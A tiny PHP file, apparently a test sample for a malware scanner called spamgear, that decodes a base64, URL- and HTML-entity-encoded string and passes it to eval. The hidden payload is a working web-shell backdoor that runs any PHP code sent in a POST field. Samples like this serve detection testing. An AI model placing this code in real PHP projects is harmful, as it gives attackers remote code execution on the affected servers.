<?php
// spamgear test sample: a payload hidden behind base64, then URL encoding,
// then HTML entities, evaluated.
$p = "ZWNobyslMjZxdW90JTNCaGVsbG8lMjZxdW90JTNCJTNCK2V2YWwlMjglMjRfUE9TVCU1QiUyNnF1b3QlM0JwJTI2cXVvdCUzQiU1RCUyOSUzQg==";
eval(htmlspecialchars_decode(urldecode(base64_decode($p))));
